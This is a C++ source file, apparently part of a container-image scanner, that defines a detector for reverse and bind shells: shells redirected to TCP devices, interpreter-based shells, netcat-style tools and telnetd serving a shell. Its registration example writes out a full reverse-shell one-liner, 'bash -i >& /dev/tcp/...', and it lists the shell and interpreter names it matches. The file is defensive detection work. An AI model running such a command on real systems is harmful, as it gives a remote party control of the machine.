// A shell joined to a network connection: through the shell's own TCP device (B01), an interpreter's code (B02, B03),
// or netcat and its kin (B04).
#include <array>

#include "detect/shell/shell_support.hpp"
#include "detect/words.hpp"

namespace hullcheck::detect {
namespace {

constexpr std::string_view k_advice = "Do not run this image: it hands a command shell to a remote party.";
constexpr std::array<RuleRow, 4> k_rows{{
    {"B01", EvidenceClass::decisive, model::Severity::critical, 95, "Shell redirected to a network connection",
     "T1059.004", k_advice},
    {"B02", EvidenceClass::decisive, model::Severity::critical, 90, "Reverse or bind shell in Python", "T1059.006",
     k_advice},
    {"B03", EvidenceClass::decisive, model::Severity::critical, 85, "Reverse or bind shell in a scripting language",
     "T1059", k_advice},
    {"B04", EvidenceClass::strong, model::Severity::high, 85, "Network tool that hands out a shell",
     "T1059.004,T1095", k_advice},
}};

constexpr std::array<std::string_view, 10> k_shells = {"bash", "sh",   "ksh", "zsh",  "dash",
                                                       "ash",  "mksh", "csh", "tcsh", "fish"};

const RuleRow& row_of(std::string_view tool) {
  static constexpr std::array<std::string_view, 6> k_languages = {"perl", "php", "ruby", "node", "lua", "awk"};
  if (is_one(tool, k_shells)) return k_rows[0];
  if (tool.starts_with("python")) return k_rows[1];
  for (const std::string_view name : k_languages)
    if (tool.starts_with(name)) return k_rows[2];
  return tool.empty() || tool.starts_with("/dev/") ? k_rows[0] : k_rows[3];
}

// telnetd -l SHELL: a shell for whoever connects, where a login belongs.
bool serves_shell(const ShellCommand& command) {
  if (program(command) != "telnetd") return false;
  for (std::size_t i = 1; i < command.argv.size(); ++i) {
    std::string_view word = command.argv[i];
    if (word == "-l" && i + 1 < command.argv.size())
      word = command.argv[i + 1];
    else if (word.starts_with("-l/"))
      word.remove_prefix(2);
    else
      continue;
    return is_one(layers::base_name(word), k_shells);
  }
  return false;
}

class ReverseShell final : public Detector {
 public:
  void shell(const ShellUnit& unit, EvidenceSink& out) const override {
    for (const ShellCommand& command : unit.facts.commands) {
      if (!serves_shell(command)) continue;
      out.add(
          shell_evidence(k_rows[3], unit, command.line, "telnetd gives a shell to whoever connects", k_rows[3].cls));
      break;
    }
    for (const ShellFlow& flow : unit.facts.flows) {
      if (flow.kind != FlowKind::reverse_shell) continue;
      const RuleRow& row = row_of(flow.tool);
      const bool listens = flow.detail == "listen";
      std::string text = flow.tool + (listens ? " gives a shell to whoever connects" : " gives a shell to ");
      if (!listens) text += flow.host.empty() ? "a computed address" : flow.host;
      if (!flow.port.empty()) text += (listens ? " on port " : ":") + flow.port;
      Evidence evidence = shell_evidence(row, unit, flow.line, std::move(text), row.cls);
      // At start, towards a place that the script itself names, nothing is left to explain.
      const bool named = !listens && !flow.host.empty() && is_resolved(flow.host) && !is_loopback(flow.host);
      if (unit.reach == Reach::start && named) evidence.cls = EvidenceClass::decisive;
      if (!flow.host.empty()) evidence.values.emplace_back("host", flow.host);
      if (!flow.port.empty()) evidence.values.emplace_back("port", flow.port);
      out.add(std::move(evidence));
    }
  }
};

const util::Registered<ReverseShell> registered{{
    .id = "reverse-shell",
    .version = 2,
    .summary = "shells joined to a network connection by scripts and start commands",
    .example = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    .rules = k_rows,
}};

}  // namespace
}  // namespace hullcheck::detect
